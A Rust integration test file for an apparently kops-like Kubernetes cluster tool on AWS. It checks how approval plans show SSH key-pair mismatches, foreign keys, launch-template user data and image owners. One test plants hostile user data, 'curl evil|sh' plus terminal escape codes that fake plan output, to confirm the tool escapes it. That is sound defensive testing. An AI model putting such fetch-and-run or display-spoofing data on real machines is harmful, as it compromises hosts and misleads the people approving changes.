//! What somebody is shown who has to approve a plan: keys, user data and images, as they are.

use aws_sdk_ec2::primitives::Blob;
use aws_sdk_ec2::types::RequestLaunchTemplateData;
use serde_json::json;

use crate::harness::{SSH_KEY, World, actions, change, cluster, group, wait};
use crate::topologies::{PUBLIC, spec};

const NAME: &str = "seen.example.com";
const NODES: &str = "nodes.seen.example.com";
const IMAGE: &str = "  image: ami-10100000\n";

/// Another RSA key, and two of the other kind: nobody has their private halves.
const OTHER: &str = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC+1x8DcuACB11WNmcGsOpLcOQOoMzXjTTZeLtc\
                     Lx1FvKFMB6Ho23tTWK97DAFN/Bi0+qfscaIX3/ooWdID1JgSFKFqsZ++neTfQ18P4pNFo2vhr9YU\
                     oJ0pPqiDm/qHcxbYQBdlwTtk5sp0Z4LsoZsl9jfhPkt3NsTZq+B3tRaSWw==";
const ED25519: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f";
const OTHER_ED25519: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4g";

fn world(test: &str, key: &str, nodes: &str) -> World {
    let specs = [
        cluster(NAME, "  annotations: {kapstan.io/bootstrap: none}\n  iam: {}\n"),
        group(NAME, "masters", "Master", IMAGE),
        group(NAME, "nodes", "Node", &format!("{IMAGE}{nodes}")),
    ];
    let world = World::bare(test);
    world.zone("example.com", "ZSANDBOX");
    world.create(&specs.join("---\n"));
    let file = world.write("key.pub", key);
    world.ok(&["create", "secret", "sshpublickey", "admin", "-i", &file, "--name", NAME]);
    world.apply(NAME);
    world.assert_settled(NAME, &[]);
    world
}

/// The name of the one key pair, and its fingerprint.
fn key_pair(world: &World) -> (String, String) {
    let answer = wait(world.ec2().describe_key_pairs().send()).unwrap();
    let [pair] = answer.key_pairs() else { panic!("one pair: {answer:#?}") };
    (pair.key_name().unwrap().to_owned(), pair.key_fingerprint().unwrap().to_owned())
}

fn import(world: &World, name: &str, key: &str) {
    wait(world.ec2().delete_key_pair().key_name(name).send()).unwrap();
    let import = world.ec2().import_key_pair().key_name(name);
    wait(import.public_key_material(Blob::new(key)).send()).unwrap();
}

#[test]
fn a_key_pair_with_another_key_is_told_and_mended() {
    for (test, key, other, fingerprint) in [
        ("seen_rsa", SSH_KEY, OTHER, "fb:e2:fc:44:ae:95:2f:b4:d1:b7:35:52:6b:a8:24:c1"),
        ("seen_ed25519", ED25519, OTHER_ED25519, "ZkAslGjFiUHdGf/WUL8rQvkib4PTvQatUV0OUQSncCA="),
    ] {
        let world = world(test, key, "");
        let (name, found) = key_pair(&world);
        assert_eq!(found, fingerprint);
        // The same key is no difference, and gets the tags that it lacks.
        import(&world, &name, key);
        let fields = change(&world.plan(NAME, &[]), &format!("SSHKey/{name}"))["fields"].clone();
        let fields = fields.as_array().unwrap().iter();
        let fields: Vec<&str> = fields.map(|field| field["field"].as_str().unwrap()).collect();
        let tags = [
            "KubernetesCluster".to_owned(),
            "Name".to_owned(),
            format!("kubernetes.io/cluster/{NAME}"),
        ];
        assert_eq!(fields, tags.map(|key| format!("tags[{key:?}]")));
        world.apply(NAME);
        world.assert_settled(NAME, &[]);

        import(&world, &name, other);
        let (_, wrong) = key_pair(&world);
        let plan = world.plan(NAME, &[]);
        assert_eq!(actions(&plan), [format!("update SSHKey/{name}")]);
        let told = change(&plan, &format!("SSHKey/{name}"));
        let field = json!({"field": "fingerprint", "before": wrong, "after": fingerprint});
        assert_eq!(told["fields"][0], field);
        assert!(told["remark"].as_str().unwrap().contains("instances that run keep the key"));
        let run = world.ok(&["update", "cluster", NAME]);
        assert!(run.stdout.contains("rolling-update --force replaces them"), "{run:#?}");

        world.apply(NAME);
        world.assert_settled(NAME, &[]);
        assert_eq!(key_pair(&world), (name, fingerprint.to_owned()));
    }
}

#[test]
fn a_key_pair_that_ec2_made_is_no_match() {
    let world = world("seen_made", SSH_KEY, "");
    let (name, fingerprint) = key_pair(&world);
    wait(world.ec2().delete_key_pair().key_name(&name).send()).unwrap();
    wait(world.ec2().create_key_pair().key_name(&name).send()).unwrap();
    let run = world.ok(&["update", "cluster", NAME]);
    assert!(run.stdout.contains("EC2 made this pair itself"), "{run:#?}");
    world.apply(NAME);
    world.assert_settled(NAME, &[]);
    assert_eq!(key_pair(&world), (name, fingerprint));
}

#[test]
fn a_key_pair_of_another_cluster_is_not_replaced() {
    let world = world("seen_foreign", SSH_KEY, "");
    let (name, _) = key_pair(&world);
    import(&world, &name, OTHER);
    let answer = wait(world.ec2().describe_key_pairs().send()).unwrap();
    let id = answer.key_pairs()[0].key_pair_id().unwrap();
    let tag = aws_sdk_ec2::types::Tag::builder();
    let tag = tag.key("kubernetes.io/cluster/other.example.com").value("owned").build();
    wait(world.ec2().create_tags().resources(id).tags(tag).send()).unwrap();
    let before = key_pair(&world);
    let said = world.fails(&["update", "cluster", NAME, "--yes"]);
    assert!(said.contains("other.example.com"), "{said}");
    assert_eq!(key_pair(&world), before);
}

#[test]
fn a_key_pair_that_the_spec_names_may_hold_any_key() {
    let world = World::bare("seen_named");
    world.zone("example.com", "ZSANDBOX");
    import(&world, "mine", OTHER);
    world.create(&spec(NAME, PUBLIC, "  sshKeyName: mine\n"));
    world.keep_ssh_key(NAME);
    world.apply(NAME);
    let before = key_pair(&world);
    world.assert_settled(NAME, &[]);
    assert_eq!(key_pair(&world), before);
}

#[test]
fn a_pair_that_appears_meanwhile_is_taken_by_its_key_alone() {
    for (test, key, succeeds) in [("seen_lost", SSH_KEY, true), ("seen_raced", OTHER, false)] {
        let world = world(test, SSH_KEY, "");
        let (name, _) = key_pair(&world);
        import(&world, &name, key);
        // It is there, and the look has not seen it.
        world.rules(json!([{"operation": "ec2:DescribeKeyPairs$", "nth": 1, "strip": "keySet"}]));
        let run = world.run(&["update", "cluster", NAME, "--yes"]);
        world.rules(json!([]));
        assert_eq!(run.code == 0, succeeds, "{run:#?}");
    }
}

/// Makes a version of the nodes' template with other user data.
fn give_user_data(world: &World, bytes: &[u8]) {
    use base64::Engine as _;
    let data = base64::engine::general_purpose::STANDARD.encode(bytes);
    let data = RequestLaunchTemplateData::builder().user_data(data).build();
    let call = world.ec2().create_launch_template_version().launch_template_name(NODES);
    wait(call.source_version("1").launch_template_data(data).send()).unwrap();
}

#[test]
fn user_data_is_shown_whole_to_those_who_ask() {
    let part =
        "  additionalUserData:\n  - {name: a.sh, type: text/x-shellscript, content: echo own}\n";
    let world = world("seen_data", SSH_KEY, part);
    let hostile = "#!/bin/sh\ncurl evil|sh\u{1b}[2K\r\n\n1 to change, 0 to create\n";
    give_user_data(&world, hostile.as_bytes());
    let id = format!("LaunchTemplate/{NODES}");

    let run = world.ok(&["-v", "update", "cluster", NAME]);
    assert!(!run.stdout.contains("evil") && !run.stdout.contains("echo own"), "{run:#?}");
    assert!(run.stdout.contains("userData  54 bytes, sha256 "), "{run:#?}");
    let plan = world.plan(NAME, &[]);
    assert_eq!(change(&plan, &id).get("userData"), None);

    let run = world.ok(&["update", "cluster", NAME, "--show-user-data"]);
    insta::assert_snapshot!("user_data_shown", world.neutral(&run.stdout));
    let plan_shown = world.plan(NAME, &["--show-user-data"]);
    assert_eq!(plan_shown["fingerprint"], plan["fingerprint"]);
    let shown = &change(&plan_shown, &id)["userData"];
    assert_eq!(shown["before"], json!({"text": hostile}));
    assert!(shown["after"]["text"].as_str().unwrap().contains("echo own"), "{shown}");
    let run = world.ok(&["update", "cluster", NAME, "--show-user-data", "-o", "yaml"]);
    assert!(run.stdout.contains("curl evil|sh\\e[2K\\r\\n"), "{run:#?}");

    give_user_data(&world, b"\x1f\x8b\x08\xff");
    let shown = world.plan(NAME, &["--show-user-data"]);
    assert_eq!(change(&shown, &id)["userData"]["before"], json!({"base64": "H4sI/w=="}));
    world.ok(&["update", "cluster", NAME, "--show-user-data", "--yes"]);
    world.assert_settled(NAME, &[]);
}

#[test]
fn user_data_of_a_template_that_is_created_is_shown_too() {
    let part = "  additionalUserData:
  - {name: a.sh, type: text/x-shellscript, content: echo own}\n";
    let world = World::whole("seen_new", NAME, &spec(NAME, PUBLIC, ""));
    world.replace(
        &group(NAME, "nodes", "Node", &format!("{IMAGE}{part}")).replace("us-west-2a", "a"),
    );
    let shown = world.plan(NAME, &["--show-user-data"]);
    let shown = &change(&shown, &format!("LaunchTemplate/{NODES}"))["userData"];
    assert_eq!(shown["before"], json!(null));
    assert!(shown["after"]["text"].as_str().unwrap().contains("echo own"), "{shown}");
}

#[test]
fn whose_image_it_is_is_told_though_the_spec_names_it_by_id() {
    let world = world("seen_image", SSH_KEY, "");
    let nodes = group(NAME, "nodes", "Node", IMAGE);
    let id = format!("LaunchTemplate/{NODES}");
    let kops = json!({
        "id": "ami-10100000", "name": "k8s-1.10-debian-stretch-amd64-hvm-ebs-2018-05-27",
        "owner": "383156758163",
    });
    // The image is as before: something else is made of it.
    world.replace(&nodes.replace("m5.large", "m5.xlarge"));
    world.forget_calls();
    let plan = world.plan(NAME, &[]);
    let looks = world.calls().into_iter().filter(|call| call.operation == "DescribeImages");
    assert_eq!(looks.count(), 1);
    assert_eq!(change(&plan, &id)["image"], kops);

    for (image, told) in [
        (
            "ami-0ubuntu22",
            "ubuntu/images/hvm-ssd/ubuntu-jammy-22.04-amd64-server-20230112 of account 099720109477",
        ),
        (
            "ami-0amazon23",
            "al2023-ami-2023.4.20240416.0-kernel-6.1-x86_64 of account 137112412989 (amazon)",
        ),
    ] {
        world.replace(&nodes.replace("ami-10100000", image));
        let run = world.ok(&["update", "cluster", NAME]);
        let line = format!("      {image} is {told}");
        assert!(run.stdout.lines().any(|told| told == line), "{run:#?}");
    }
}
